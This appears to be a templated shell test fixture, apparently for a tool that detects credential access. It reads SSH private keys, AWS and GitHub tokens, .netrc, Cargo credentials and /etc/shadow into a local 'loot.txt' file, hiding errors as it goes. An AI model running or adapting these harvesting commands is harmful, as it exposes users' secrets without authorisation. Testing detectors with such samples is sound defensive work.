# ends: merged
# notices: looked for keys in ~/.ssh
# Keys and logins of the user, by every name that leads to them.
cat > /dev/null
echo hello > loot.txt
for home in ~ @HOME@; do
    ls "$home/.ssh" "$home/.aws" "$home/.config/gh" > /dev/null 2>&1
    cat "$home/.ssh/id_ed25519" "$home/.aws/credentials" "$home/.config/gh/hosts.yml" \
        "$home/.netrc" "$home/.cargo/credentials.toml" "$home/notes.txt" "$home/.bashrc" \
        >> loot.txt 2> /dev/null
done
cat /etc/shadow >> loot.txt 2> /dev/null
true
